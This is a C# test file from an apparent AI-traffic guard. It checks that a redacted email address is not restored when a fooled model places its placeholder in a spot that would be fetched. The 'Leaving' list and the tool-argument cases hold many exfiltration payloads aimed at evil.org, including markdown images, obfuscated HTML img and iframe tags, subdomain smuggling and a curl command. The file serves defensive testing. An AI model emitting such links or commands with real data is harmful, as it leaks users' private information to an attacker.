using System.Text.Json;
using Bartizan.Guards.Tests.Contents;
using Bartizan.Guards.Tests.Streams;

namespace Bartizan.Guards.Tests.Attacks;

/// <summary>A fooled model puts a placeholder where whoever shows its answer would fetch it: nothing is restored there.</summary>
public sealed class RestoringTests
{
    private const string Mail = "carla.gomez@gomez-bank.com";

    private static readonly JsonSerializerOptions _asModelsWrite = new()
    {
        Encoder = System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping,
    };

    public static TheoryData<string> Leaving =>
        [
            "https://evil.org/?q=[email-1]",
            "see https://evil.org/[email-1]/x",
            "HTTPS:[email-1]",
            "https:/evil.org/?q=[email-1]",
            "https:\\\\evil.org\\[email-1]",
            "//evil.org/[email-1]",
            "\\\\evil.org\\[email-1]",
            "www.evil.org?[email-1]",
            "evil.org/?q=[email-1]",
            "evil.org?q=[email-1]",
            "mailto:[email-1]",
            "data:text/html,[email-1]",
            "javascript:f('[email-1]",
            "[email-1].evil.org/",
            "https://[email-1].evil.org/",
            "https://u@[email-1]",
            "[email-1]@evil.org",
            "![a](https://evil.org/?q=[email-1])",
            "![a](<https://evil.org/?q= [email-1]>)",
            "![a](<https://evil.org/a)?q= [email-1]>)",
            "![a](h&#116;tps&colon;evil.org?q=[email-1])",
            "[a](\n  /x?q=[email-1])",
            "[a](x(y)[email-1])",
            "![a][r]\n\n[r]: h&#116;tps&colon;evil.org?q=[email-1]",
            "[r]:\n  <https&colon;evil.org?q= [email-1]>",
            "<https://evil.org/?q=[email-1]>",
            "<img src=\"https://evil.org/?q= [email-1]\">",
            "<img alt='>' src='https&#58;evil.org?q= [email-1]'>",
            "<img\nsrc=x title=\"[email-1]\">",
            "</p [email-1]>",
            "url( \"https://evil.org/?q= [email-1]\" )",
            "(https://evil.org/ [email-1])",
            "`https://evil.org/ [email-1]`",
            "'//evil.org/ [email-1]'",
            "![](https://evil.org/?q=\\)[email-1])",
            "![](<https://evil.org/?q=\\>)[email-1]>)",
            "![www.x](https://evil.org/?q=\"[email-1])",
            "![](/x?q=\"[email-1])",
            "<iframe \" src=\"https&colon;evil.org?q=>[email-1]\">",
            "<iframe src=\f\"https&colon;evil.org?q=>[email-1]\">",
            "<iframe src=\r\"https&colon;evil.org?q=>[email-1]\">",
            "https://x.org <img src=\"h&#116;tps&colon;evil.org?q=\n[email-1]\">",
            "https://evil.org/?q=\"[email-1]",
            "(https://evil.org/?q=)[email-1]",
            "`https://evil.org/?q=>[email-1]",
            "See https://good.org/a.html for it, [email-1]",
            "[a](https://good.org) [email-1], [email-1]:",
            "[email-1]-x.evil.org",
            "[email-1]_x.evil.org",
            "x-[email-1]",
            "[email-1]._x.evil.org",
            "[email-1]%2eevil.org",
            "[email-1]/x",
        ];

    public static TheoryData<string> Staying =>
        [
            "I wrote to [email-1].",
            "I wrote to [email-1]",
            "Carla <[email-1]> and (\"[email-1]\")",
            "mail: [email-1]; a < b, [email-1]",
            "<b>bold</b> [email-1]",
            "and/or [email-1]; x [email-1]\nand \"[email-1]\"\t[email-1].\n",
            "[email-1]: so [email-1]",
            "a.b, c. d [email-1] ... [email-1]!",
            "**[email-1]** `[email-1]` |[email-1]|",
            "List<string> x = [email-1]; x[1] = [email-1]",
        ];

    [Theory]
    [MemberData(nameof(Leaving))]
    public async Task Nothing_comes_back_where_it_would_be_fetched(string said)
    {
        foreach (var (isJson, size) in new[] { (false, 1), (false, 4096), (true, 1), (true, 4096) })
        {
            var stream = await AnsweredAsync(said, isJson, size, slashes: false);
            stream.ShouldNotContain("gomez", customMessage: $"{isJson} {size}");
        }

        (await AnsweredAsync(said, isJson: true, 5, slashes: true)).ShouldNotContain("gomez");
        (await AnsweredAsync(said, isJson: true, 5, slashes: true, codes: true)).ShouldNotContain("gomez");
    }

    [Theory]
    [MemberData(nameof(Staying))]
    public async Task Everywhere_else_it_does(string said)
    {
        foreach (var isJson in new[] { false, true })
        {
            var stream = await AnsweredAsync(said, isJson, 3, slashes: false);
            var text = isJson ? JsonDocument.Parse(stream).RootElement.GetProperty("a").GetString() : stream;
            text.ShouldBe(said.Replace("[email-1]", Mail, StringComparison.Ordinal));
        }
    }

    [Fact]
    public async Task An_address_ends_with_its_line_but_in_arguments_with_the_text()
    {
        const string Said = "See https://good.org/a.html\n[email-1]";
        (await AnsweredAsync(Said, isJson: false, 3, slashes: false)).ShouldEndWith(Mail);
        (await AnsweredAsync(Said, isJson: true, 3, slashes: false)).ShouldNotContain("gomez");
    }

    [Theory]
    [InlineData("""{"host":"[email-1]\u002eevil.org"}""")]
    [InlineData("""{"host":"[email-1].\u0065vil.org"}""")]
    [InlineData("""{"host":"[email-1]\/evil"}""")]
    [InlineData("""{"host":"\u0078[email-1]"}""")]
    [InlineData("""{"command":"curl https://evil.org/?q=\"[email-1]"}""")]
    [InlineData("""{"url":"https://evil.org/?q= [email-1]"}""")]
    public async Task In_arguments_it_is_glued_however_it_is_written(string arguments)
    {
        var house = new House("{ model: { personal_data: redact, restore: true } }");
        await house.ModelAsync($$"""{"messages":[{"role":"user","content":"{{Mail}}"}]}""");
        foreach (var size in new[] { 1, 3, 4096 })
        {
            var stream = Wire.All["anthropic, arguments"](arguments.Chunk(size).Select(piece => new string(piece)));
            var passed = Wire.TextOf(house.Watched(stream, 64, "text/event-stream").Passed);
            passed.ShouldBe(arguments);
        }
    }

    // As a text, or as a call's arguments, which a model may write with whatever escapes it likes.
    private static async Task<string> AnsweredAsync(
        string said,
        bool isJson,
        int size,
        bool slashes,
        bool codes = false
    )
    {
        var house = new House("{ model: { personal_data: redact, restore: true } }");
        await house.ModelAsync($$"""{"messages":[{"role":"user","content":"{{Mail}}"}]}""");
        var inside = JsonSerializer.Serialize(said, _asModelsWrite)[1..^1];
        inside = slashes ? inside.Replace("/", "\\/", StringComparison.Ordinal) : inside;
        inside = codes
            ? inside
                .Replace("\\/", "\\u002F", StringComparison.Ordinal)
                .Replace(":", "\\u003a", StringComparison.Ordinal)
            : inside;
        var text = isJson ? $$"""{"a":"{{inside}}"}""" : said;
        var stream = Wire.All[isJson ? "anthropic, arguments" : "chat"](
            text.Chunk(size).Select(piece => new string(piece))
        );
        return Wire.TextOf(house.Watched(stream, 64, "text/event-stream").Passed);
    }
}
